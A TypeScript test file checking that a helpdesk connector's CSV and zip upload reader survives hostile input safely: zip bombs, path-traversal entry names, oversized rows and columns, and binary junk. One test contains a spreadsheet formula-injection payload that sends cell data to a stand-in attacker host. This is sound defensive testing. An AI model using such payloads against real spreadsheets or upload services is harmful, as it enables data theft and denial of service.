import { Readable } from 'node:stream'
import { describe, expect, test } from 'vitest'
import { detectTables } from '../../service/src/connectors/files/detect-tables.ts'
import { createCsvReader } from '../../service/src/connectors/files/reader.ts'
import type { CsvUpload } from '../../service/src/connectors/files/upload.ts'
import { ObstacleError } from '../../service/src/errors.ts'
import { limitMs, watchLoop } from '../support/watch-loop.ts'
import { uploadOf, type ZipEntry, zipOf } from './csv-upload.ts'
import { readAll } from './reader-contract.ts'

const detectZip = (...entries: ZipEntry[]) => detectTables(uploadOf('x.zip', zipOf(entries)), 'helpdesk')
const good: ZipEntry = { name: 'tickets.csv', content: 'id,subject\n1,Fine' }
const MiB = 1024 * 1024
// These tests parse much data, on a loaded machine.
const slow = { timeout: 900_000 }

async function readTickets(content: string | Buffer, chunkBytes?: number) {
  return createCsvReader(uploadOf('tickets.csv', content, chunkBytes), 'helpdesk').read('tickets', null, {})
}

describe('a zip', () => {
  test.each<[string, ZipEntry]>([
    ['bomb_suspected', { name: 'contacts.csv', content: Buffer.alloc(64 * MiB, 'a,b\n') }],
    ['too_large', { name: 'contacts.csv', content: 'x', claimedSize: 0xfffffff0, packed: Buffer.alloc(20 * MiB) }],
    ['nested_archive', { name: 'more.zip', content: zipOf([good]) }],
    ['encrypted', { name: 'contacts.csv', content: 'id,name\n1,A', isEncrypted: true }],
    ['no_table', { name: 'contacts.exe', content: 'id,name\n1,A' }],
    ['unreadable', { name: 'contacts.csv', content: 'id,name\n1,A', packed: Buffer.from('no deflate at all') }],
    ['unreadable', { name: 'contacts.csv', content: 'id,name\n1,A', claimedSize: 3 }],
    ['unreadable', { name: 'contacts.csv', content: 'id,name\n1,A', claimedSize: 3000 }],
  ])('with %s says so, and its other files are read', async (code, entry) => {
    const twice =
      code === 'too_large' ? [entry, { ...entry, name: 'groups.csv' }, { ...entry, name: 'articles.csv' }] : [entry]
    const { tables, problems } = await detectZip(good, ...twice)
    expect(tables.map(({ file, rows }) => [file, rows])).toEqual([['tickets.csv', 1]])
    expect(problems.map((problem) => problem.code)).toContain(code)
  })

  test('with file names that point elsewhere is read; names are only data', async () => {
    const names = [
      '../../etc/tickets.csv',
      '/abs/contacts.csv',
      'a\\..\\groups.csv',
      'Thumbs.db',
      '__MACOSX/._x.csv',
      'folder/',
    ]
    const { tables, problems } = await detectZip(...names.map((name) => ({ ...good, name })))
    expect(tables.map(({ file, entity }) => [file, entity])).toEqual([
      ['../../etc/tickets.csv', 'tickets'],
      ['/abs/contacts.csv', 'contacts'],
      ['a/../groups.csv', 'groups'],
    ])
    expect(problems).toEqual([])
  })

  test('with many files is read up to a limit', slow, async () => {
    const entries = Array.from({ length: 600 }, (_, index) => ({
      name: `tickets-${index}.csv`,
      content: 'id,subject\n',
    }))
    const { tables, problems } = await detectZip(...entries)
    expect([tables.length, problems.map(({ code }) => code)]).toEqual([500, ['too_many_files']])
  })

  test('of 20,000 entries is refused at once, with the limit in words', slow, async () => {
    const entries = Array.from({ length: 20_000 }, (_, index) => ({ name: `tickets-${index}.csv`, content: 'id\n1' }))
    const upload = uploadOf('x.zip', zipOf(entries))
    let opened = 0
    const counted: CsvUpload = {
      ...upload,
      open(range) {
        opened += 1
        return upload.open(range)
      },
    }
    const { tables, problems } = await detectTables(counted, 'helpdesk')
    expect(tables).toEqual([])
    expect(problems).toMatchObject([
      { code: 'too_many_files', message: 'The zip has 20,000 entries; at most 2,000 are read.' },
    ])
    expect(opened).toBeLessThan(10)
  })

  test('of 2,000 entries is listed and read without holding the event loop', slow, async () => {
    const entries = Array.from({ length: 2_000 }, (_, index) => ({ name: `picture-${index}.png`, content: 'x' }))
    const upload = uploadOf('x.zip', zipOf([...entries.slice(1), good]))
    const { longestMs, result } = await watchLoop(() => detectTables(upload, 'helpdesk'))
    expect(result.tables).toMatchObject([{ rows: 1 }])
    expect(longestMs).toBeLessThan(limitMs())
  })

  test('that is damaged is an obstacle for the customer', async () => {
    const bytes = zipOf([good]).subarray(0, -10)
    await expect(detectTables(uploadOf('x.zip', bytes), 'helpdesk')).rejects.toMatchObject({
      name: ObstacleError.name,
      code: 'upload_unreadable',
      mustAct: 'customer',
    })
  })

  test('with a failing storage is not reported as damaged', async () => {
    const bytes = zipOf([good])
    let calls = 0
    const failing: CsvUpload = {
      ...uploadOf('x.zip', bytes),
      open(range) {
        calls += 1
        if (calls > 2)
          return new Readable({
            read() {
              this.destroy(new Error('storage is gone'))
            },
          })
        return uploadOf('x.zip', bytes).open(range)
      },
    }
    await expect(detectTables(failing, 'helpdesk')).rejects.toThrow('storage is gone')
  })
})

describe('a file', () => {
  test('with NUL bytes is read without them', async () => {
    const { items } = await readTickets('id,sub\0ject\n1,He\0llo')
    expect(items[0]?.fields).toEqual({ subject: 'Hello' })
  })

  test('with formulas keeps them as data', async () => {
    const formula = '=HYPERLINK("https://evil.example?x="&A1,"click")'
    const { items } = await readTickets(`id,subject,note\n1,"${formula.replaceAll('"', '""')}",+1+1\n2,@SUM(A1),-2+3`)
    expect(items.map(({ fields }) => fields.subject)).toEqual([formula, '@SUM(A1)'])
    expect(items.map(({ customFields }) => customFields?.note?.value)).toEqual(['+1+1', '-2+3'])
  })

  test('with a field of 10 MB is read', slow, async () => {
    const { items, warnings } = await readTickets(
      `id,subject,description\n1,Long,"${'a b\n'.repeat(2.5 * MiB)}"\n2,After,x`,
    )
    expect(warnings).toEqual([])
    expect(items[0]?.fields.description).toEqual({ format: 'plain', body: 'a b\n'.repeat(2.5 * MiB) })
    expect(items).toHaveLength(1)
  })

  test('with a row of 17 MB loses only that row', slow, async () => {
    const { items, warnings } = await readTickets(`id,subject\n1,${'x'.repeat(17 * MiB)}\n2,After`)
    expect(items.map(({ sourceId }) => sourceId)).toEqual(['2'])
    expect(warnings.map(({ message }) => message)).toEqual(['tickets.csv, line 2: the row is longer than 16 MB.'])
  })

  test('with 10,000 columns is read in its first 500', slow, async () => {
    const row = (cell: (index: number) => string) => Array.from({ length: 10_000 }, (_, index) => cell(index)).join(',')
    const content = `${row((n) => (n === 0 ? 'subject' : `column ${n}`))}\n${row(() => 'x')}\n${row(() => 'y')}`
    const upload = uploadOf('tickets.csv', content)
    const { tables, problems } = await detectTables(upload, 'helpdesk')
    expect([tables[0]?.columns.length, tables[0]?.rows, problems[0]?.code]).toEqual([500, 2, 'columns_ignored'])
    const { items } = await createCsvReader(upload, 'helpdesk').read('tickets', null, {})
    expect(Object.keys(items[1]?.customFields ?? {})).toHaveLength(499)
  })

  test('with only separators is no table, and the limit is named', slow, async () => {
    for (const separator of [',', ';', '\t', '|']) {
      const { tables, problems } = await detectTables(uploadOf('tickets.csv', separator.repeat(4 * MiB)), 'helpdesk')
      expect(tables).toEqual([])
      expect(problems).toMatchObject([{ code: 'no_table', message: 'Line 1: the row has more than 10,000 values.' }])
    }
  })

  test('with a row of too many values loses only that row', slow, async () => {
    const upload = uploadOf('tickets.csv', `id,subject\n1,Before\n${','.repeat(4 * MiB)}\n2,After\n`)
    const { tables, problems } = await detectTables(upload, 'helpdesk')
    expect(tables[0]?.rows).toBe(2)
    expect(problems).toMatchObject([
      { code: 'rows_skipped', message: 'A row cannot be read: line 3: the row has more than 10,000 values.' },
    ])
    const reader = createCsvReader(upload, 'helpdesk', { tables: await detectTables(upload, 'helpdesk') })
    const { items } = await reader.read('tickets', null, {})
    expect(items.map(({ fields }) => fields.subject)).toEqual(['Before', 'After'])
  })

  test.each([
    ['separators', ','.repeat(4 * MiB)],
    ['rows of separators', `id,subject\n${`${','.repeat(1_000)}\n`.repeat(1_000)}`],
    ['empty lines', '\n'.repeat(MiB)],
    ['quotes', '"'.repeat(4 * MiB)],
    ['short rows', `id,subject\r${'a,b\r'.repeat(MiB / 8)}`],
    ['wide rows', Array(100).fill(Array(5_000).fill('x').join(',')).join('\n')],
    ['columns without an end', Array.from({ length: 9_000 }, (_, index) => `column ${index}`).join(',')],
    [
      'a cell of 10 MB',
      `id,subject,description,created_at\n1,Long,"${'a b\n'.repeat(2.5 * MiB)}","${'1'.repeat(MiB)}"`,
    ],
  ])('with %s is examined and read without holding the event loop', slow, async (what, content) => {
    const upload = uploadOf('tickets.csv', content)
    const { longestMs } = await watchLoop(async () => {
      const tables = await detectTables(upload, 'helpdesk')
      await createCsvReader(upload, 'helpdesk', { tables }).read('tickets', null, {})
    })
    process.stdout.write(`a file of ${what}: ${longestMs.toFixed()} ms of CPU time at once\n`)
    expect(longestMs).toBeLessThan(limitMs())
  })

  test('with only quotes is given up after 200 lines, and says so', async () => {
    const upload = uploadOf('tickets.csv', `id,subject\n${'"x\n'.repeat(501)}`)
    const { tables, problems } = await detectTables(upload, 'helpdesk')
    expect([tables[0]?.rows, problems.map(({ code }) => code)]).toEqual([0, ['rows_abandoned']])
    const reader = createCsvReader(upload, 'helpdesk')
    expect(await readAll((cursor) => reader.read('tickets', cursor, {}))).toEqual([])
  })

  test.each([
    [
      'random bytes',
      Buffer.from(Array.from({ length: 50_000 }, (_, index) => (index * 7919 + (index >> 3) * 31) % 256)),
    ],
    ['zeros', Buffer.alloc(100_000)],
    ['half a character', Buffer.from([0x69, 0x64, 0x0a, 0xc3])],
    ['half a UTF-16 unit', Buffer.from([0xff, 0xfe, 0x69, 0x00, 0x0a])],
    ['an executable', Buffer.from('MZ\x90\x00\x03\x00\x00\x00"\n"', 'latin1')],
  ])('with %s does no harm', async (_what, content) => {
    const reader = createCsvReader(uploadOf('tickets.csv', content), 'helpdesk')
    const records = await readAll((cursor) => reader.read('tickets', cursor, {}))
    expect((await reader.count()).tickets).toBe(records.length)
  })

  test('whose bytes arrive one by one gives the same records', async () => {
    const content = 'id;subject\r\n1;"ü\r\n;""x"""\r\n\r\n2;"broken"x\r\n3;€\r\n4;"x"y\r\n'
    expect(await readTickets(content, 1)).toEqual(await readTickets(content))
    expect((await readTickets(content, 1)).items.map(({ fields }) => fields.subject)).toEqual(['ü\r\n;"x"', '€'])
  })
})
